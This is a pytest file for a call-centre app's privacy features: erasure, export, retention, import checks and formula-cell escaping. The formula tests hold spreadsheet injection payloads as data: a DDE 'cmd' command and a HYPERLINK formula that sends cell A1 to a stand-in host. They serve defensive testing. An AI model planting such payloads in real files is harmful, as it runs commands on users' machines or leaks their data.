"""What the fresh-eyes review of issue 12 found, each as a user would notice it: an erasure
that changed other people's rows in the archive waiting for the share, calls of the person
that no one attached to their record, formulas that a spreadsheet would run, an erasure
reason kept unmasked for good, and old callbacks' text kept while the customer is active.
Every test runs on the real encrypted store (Services.open)."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from agent_desk.calls.service import CallRecord
from agent_desk.customers import CustomerChanges, PhoneInput
from agent_desk.models import Call, Callback, CallDraft, OutboxItem
from agent_desk.spreadsheet import safe_cell
from tests.unit.test_shift_summary import PlainRenderer

A_NUMBER, A_NAME = "13912345678", "欧阳娜娜"
B_NUMBER, B_NAME = "13698765432", "沈玉"
SUBJECT = "宽带故障"  # a standard subject both callers share


@pytest.fixture
def staff(services):
    a = services.accounts
    return {
        "agent": a.create("1001", "王小明", "agent", "secret-pw"),
        "supervisor": a.create("8001", "陈主管", "supervisor", "secret-pw"),
        "admin": a.create("0001", "管理员", "admin", "secret-pw"),
    }


def _call(services, clock, agent, number, record_kwargs, customer_id=None):
    call = services.calls.ring(number, agent_id=agent.id)
    clock.advance(4)
    services.calls.answer(call.public_id)
    clock.advance(60)
    services.calls.hang_up(call.public_id)
    return services.calls.save_record(
        call.public_id,
        CallRecord(
            category="complaint",
            resolution="follow_up",
            satisfaction=3,
            greeting_given=True,
            signoff_given=True,
            customer_id=customer_id,
            **record_kwargs,
        ),
        actor=agent,
    )


def two_people_in_one_shift(services, clock, staff, a_notes="住在望京", a_question=None):
    a = services.customers.create(
        CustomerChanges(name=A_NAME, phones=(PhoneInput(A_NUMBER),), notes=a_notes), actor="1001"
    )
    b = services.customers.create(
        CustomerChanges(name=B_NAME, phones=(PhoneInput(B_NUMBER),), notes="老客户"), actor="1001"
    )
    agent = staff["agent"]
    shift = services.shifts.start(agent)
    _call(
        services,
        clock,
        agent,
        A_NUMBER,
        {
            "subject": SUBJECT,
            "question": a_question or "宽带连不上",
            "answer": "已登记",
            "needs_follow_up": True,
        },
        a.id,
    )
    _call(
        services,
        clock,
        agent,
        B_NUMBER,
        {
            "subject": SUBJECT,
            "question": "家里宽带连不上",
            "answer": "已登记",
            "needs_follow_up": True,
        },
        b.id,
    )
    clock.advance(600)
    services.shifts.close(shift.id, "en", PlainRenderer())
    services.backups.wait(30)
    return a, b


def _outbox(services) -> dict[str, tuple[str, bytes]]:
    with services.store.sessions() as session:
        return {
            i.relative_path: (i.kind, bytes(i.content or b""))
            for i in session.scalars(select(OutboxItem))
        }


def _cases_json(items, kind="cases_json"):
    [content] = [c for k, c in items.values() if k == kind]
    return {row["number"]: row for row in json.loads(content)["cases"]}


def _csv_rows(items, kind):
    [content] = [c for k, c in items.values() if k == kind]
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_erasing_one_person_leaves_everyone_elses_rows_in_the_outbox_whole(services, clock, staff):
    # A note of "11" and a subject every caller uses: neither may be searched for in files.
    a, _b = two_people_in_one_shift(services, clock, staff, a_notes="11")
    before = _outbox(services)
    cases_before = _cases_json(before)
    assert len(cases_before) == 2
    a_case, b_case = sorted(cases_before)  # A called first
    services.privacy.erase_person(a.id, staff["admin"], "REQ-1")
    after = _outbox(services)
    # Files that hold no customer text keep every byte (the audit anchor's hash is its point).
    for path, (kind, content) in before.items():
        if kind not in ("cases_json", "cases_csv", "calls_csv"):
            assert after[path][1] == content, path
    cases_after = _cases_json(after)
    assert cases_after[b_case] == cases_before[b_case]
    assert cases_after[a_case]["complainant"] == "" and cases_after[a_case]["matter"] == ""
    assert cases_after[a_case]["received_at"] == cases_before[a_case]["received_at"]
    rows = {r["number"]: r for r in _csv_rows(after, "cases_csv")}
    old_rows = {r["number"]: r for r in _csv_rows(before, "cases_csv")}
    assert rows[b_case] == old_rows[b_case]
    assert (
        rows[a_case]["matter"] == ""
        and rows[a_case]["received_at"] == old_rows[a_case]["received_at"]
    )
    calls = _csv_rows(after, "calls_csv")
    old_calls = _csv_rows(before, "calls_csv")
    assert calls[1] == old_calls[1]  # B's call
    assert calls[0]["caller"] == "" and old_calls[0]["caller"] != ""
    for _kind, content in after.values():
        assert A_NAME.encode() not in content


def test_a_call_no_one_attached_to_the_person_is_exported_and_erased_with_its_draft(
    services, clock, staff, tmp_path
):
    _a, _b = two_people_in_one_shift(services, clock, staff)
    agent = staff["agent"]
    services.shifts.start(agent)
    unlinked = _call(
        services,
        clock,
        agent,
        "139 1234 5678",
        {"subject": "咨询", "question": "我是欧阳娜娜，身份证110101199003071234", "answer": "好"},
    )
    draft_call = services.calls.ring(A_NUMBER, agent_id=agent.id)
    services.calls.save_draft(agent.id, draft_call.public_id, CallRecord(question="我是欧阳娜娜"))
    cid = services.privacy.find_person(phone=A_NUMBER)
    out = tmp_path / "p.json"
    data = services.privacy.export_person_json(cid, staff["supervisor"], out)
    questions = [c["question"] for c in data["calls"]]
    assert "我是欧阳娜娜，身份证110101199003071234" in questions
    services.privacy.erase_person(cid, staff["admin"], "REQ-2")
    with services.store.sessions() as session:
        call = session.scalar(select(Call).where(Call.public_id == unlinked.call.public_id))
        assert (call.caller_number, call.question) == ("", "")
        assert session.scalars(select(CallDraft)).all() == []
        # B's calls keep their text.
        kept = session.scalars(select(Call.question).where(Call.caller_normalised == B_NUMBER))
        assert list(kept) == ["家里宽带连不上"]


def test_a_number_two_customers_share_does_not_make_an_unlinked_call_one_of_theirs(
    services, clock, staff
):
    a, b = two_people_in_one_shift(services, clock, staff)
    from tests.unit.test_privacy_requests import _share_number

    _share_number(services, "01065521234", a.id, b.id)  # a family's landline
    services.shifts.start(staff["agent"])
    family = _call(services, clock, staff["agent"], "01065521234", {"question": "家里的事"})
    services.privacy.erase_person(a.id, staff["admin"], "REQ-3")
    with services.store.sessions() as session:
        call = session.scalar(select(Call).where(Call.public_id == family.call.public_id))
        assert call.question == "家里的事"


def test_every_text_cell_a_spreadsheet_would_run_is_written_as_text(services, clock, staff):
    formula = '=HYPERLINK("http://x.example/?"&A1,"点我")'
    a = services.customers.create(
        CustomerChanges(name=formula, phones=(PhoneInput(A_NUMBER),)), actor="1001"
    )
    agent = staff["agent"]
    shift = services.shifts.start(agent)
    _call(
        services,
        clock,
        agent,
        A_NUMBER,
        {
            "subject": "+cmd|' /C calc'!A0",
            "question": "@SUM(1)",
            "answer": "-2+3",
            "needs_follow_up": True,
        },
        a.id,
    )
    clock.advance(600)
    services.shifts.close(shift.id, "en", PlainRenderer())
    items = _outbox(services)
    [row] = _csv_rows(items, "cases_csv")
    for name, value in row.items():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    assert row["complainant"].startswith("'=") or row["matter"].startswith(("'+", "'@"))
    for line in _csv_rows(items, "calls_csv"):
        for value in line.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r"))


def test_the_one_rule_for_formula_cells():
    assert [safe_cell(v) for v in ("=1+1", "+1", "-1", "@A", "\tx", "\rx", "张三", "")] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@A",
        "'\tx",
        "'\rx",
        "张三",
        "",
    ]
    assert safe_cell(-1.5) == -1.5  # numbers stay numbers


def test_the_report_sheet_and_csv_never_hold_a_formula(tmp_path):
    from agent_desk.reports import export

    assert export._cells(["=CMD()", 3.0, None]) == ["'=CMD()", 3.0, None]
    wb = Workbook()
    wb.active.append(export._cells(["=CMD()", "@x"]))
    wb.save(tmp_path / "r.xlsx")
    ws = load_workbook(tmp_path / "r.xlsx").active
    assert [c.value for c in ws[1]] == ["'=CMD()", "'@x"]
    assert ws["A1"].data_type == "s"


def test_an_excel_formula_cell_is_imported_as_its_text(services, staff, tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append(["Name", "Phone", "VIP", "Notes"])
    ws.append(["陈三", "13600110000", 1, "=CMD()"])
    path = tmp_path / "book.xlsx"
    wb.save(path)
    services.privacy.import_customers(path, staff["supervisor"])
    customer = services.customers.lookup_by_number("13600110000")
    assert services.customers.get(customer.id).notes == "=CMD()"


def test_the_erasure_reason_is_masked_in_the_audit_log_for_good(services, clock, staff):
    a, _b = two_people_in_one_shift(services, clock, staff)
    services.privacy.erase_person(
        a.id, staff["admin"], "张三 13800138000 身份证110101199003071234 请求"
    )
    with services.store.sessions() as session:
        from agent_desk.models import AuditEvent

        detail = session.scalar(
            select(AuditEvent.detail).where(AuditEvent.action == "customer.erase")
        )
    assert "13800138000" not in detail and "110101199003071234" not in detail
    assert "请求" in detail


def test_old_callbacks_lose_their_text_by_their_own_age(services, clock, staff):
    a, _b = two_people_in_one_shift(services, clock, staff)
    with services.store.sessions.begin() as session:
        session.add(
            Callback(
                customer_id=a.id,
                due_at=clock.now() - timedelta(days=2000),
                purpose="回电给13800138000",
                status="done",
                outcome="客户说密码是123",
                created_at=clock.now() - timedelta(days=2000),
            )
        )
    counts = services.privacy.apply_retention(force=True)
    assert counts["callbacks"] == 1
    with services.store.sessions() as session:
        texts = list(session.execute(select(Callback.purpose, Callback.outcome)))
    assert ("回电给13800138000", "客户说密码是123") not in texts
    assert services.customers.get(a.id).name == A_NAME  # the active customer stays


def _book(tmp_path, text):
    path = tmp_path / "book.csv"
    path.write_text("name,phone,VIP,notes\n" + text, encoding="utf-8")
    return path


def test_an_import_never_renames_a_customer_and_refuses_a_shared_number(services, staff, tmp_path):
    from tests.unit.test_privacy_requests import _share_number

    one = services.customers.create(
        CustomerChanges(name="张三", phones=(PhoneInput("13800138000"),)), actor="8001"
    )
    two = services.customers.create(
        CustomerChanges(name="卫五", phones=(PhoneInput("13700001111"),)), actor="8001"
    )
    _share_number(services, "01065521234", one.id, two.id)
    report = services.privacy.import_customers(
        _book(tmp_path, "周九,13800138000,,同号\n新人,010-6552 1234,,\n张三,13800138000,2,\n"),
        staff["supervisor"],
    )
    assert [(r.row, r.reason) for r in report.refused] == [
        (2, "name.differs"),
        (3, "phone.shared"),
    ]
    assert "张*" in report.refused[0].text  # whose name it is, masked
    assert (report.added, report.updated) == (0, 1)
    assert services.customers.get(one.id).name == "张三"
    assert services.customers.get(one.id).vip_level == 2
    assert services.customers.get(two.id).name == "卫五"


def test_an_import_refuses_numbers_that_are_not_numbers(services, staff, tmp_path):
    report = services.privacy.import_customers(
        _book(
            tmp_path, "陈三,1.36001E+10,,\n孙八,12345,,\n吴十,1380013800,,\n郑一,13800138000,,\n"
        ),
        staff["supervisor"],
    )
    assert [(r.row, r.reason, r.detail) for r in report.refused] == [
        (2, "phone.scientific", "1.36001E+10"),
        (3, "phone.invalid", "12345"),
        (4, "phone.invalid", "1380013800"),
    ]
    assert report.added == 1
    assert services.customers.lookup_by_number("13600110") is None
